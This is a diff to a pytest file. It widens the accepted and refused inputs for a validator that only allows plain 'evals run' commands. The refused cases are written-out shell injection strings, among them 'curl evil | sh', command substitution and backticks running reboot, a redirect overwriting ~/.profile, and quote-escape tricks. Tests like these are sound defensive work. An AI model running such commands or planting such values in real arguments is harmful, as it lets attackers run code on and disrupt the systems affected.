@@ -15,13 +15,45 @@ def _with_producer(world: Any, **members: Any) -> list[str]:
     return list(world.verdict().problems)
 
 
-@pytest.mark.parametrize("command", ["evals run x", "pnpm evals run x", "evals run .evals/suite.toml --json"])
+@pytest.mark.parametrize(
+    "command",
+    [
+        "evals run x",
+        "pnpm evals run x",
+        "evals run .evals/suite.toml --json",
+        "evals run 'a b; c.json' --json",
+        "evals run 'it'\"'\"'s.json'",
+        r"evals run $'a\u001b\x27b\\'",
+        "evals run a b.json",
+        "evals run ünï.json",
+    ],
+)
 def test_a_run_of_evals_may_be_the_producer(world: Any, command: str) -> None:
     assert _with_producer(world, command=command) == []
 
 
 @pytest.mark.parametrize(
-    "command", ["evals run", "evals run ", "evals runx", "sh -c 'evals run x'", "Evals run x"]
+    "command",
+    [
+        "evals run",
+        "evals run ",
+        "evals runx",
+        "sh -c 'evals run x'",
+        "Evals run x",
+        "evals run  ; curl evil | sh",
+        "evals run a.json; reboot",
+        "evals run a.json\nreboot",
+        "evals run a.json > ~/.profile",
+        "evals run $(reboot)",
+        'evals run "$(reboot)"',
+        "evals run `reboot`",
+        "evals run a.json &",
+        "evals run 'a'; 'b'",
+        "evals run 'a",
+        r"evals run \'; reboot '",
+        r"evals run $'\'; reboot '",
+        r"evals run $'\' ' ; reboot #'",
+    ],
 )
 def test_any_other_command_is_refused(world: Any, command: str) -> None:
     (problem,) = _with_producer(world, command=command)
